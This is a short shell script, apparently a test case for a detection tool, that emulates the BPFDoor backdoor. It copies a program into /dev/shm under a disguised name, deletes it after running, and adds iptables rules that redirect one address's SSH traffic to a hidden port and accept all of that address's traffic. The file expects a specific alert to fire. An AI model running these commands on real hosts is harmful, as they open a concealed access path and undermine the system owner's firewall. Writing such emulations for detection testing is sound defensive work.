#!/bin/sh
# BPFDoor's way: a program in /dev/shm has iptables send one address's connections to its own port, and let them in.
# row: evasion 9
# firewall: iptables.rules
# expect: WW013 by xtables-nft-multi
cp "$DEEDS/cronlike" /dev/shm/kdmtmpflush.$$
/dev/shm/kdmtmpflush.$$ "rm /dev/shm/kdmtmpflush.$$; iptables -t nat -A PREROUTING -p tcp -s 198.51.100.9 --dport 22 -j REDIRECT --to-ports 42391; iptables -I INPUT -p tcp -s 198.51.100.9 -j ACCEPT" >/dev/null
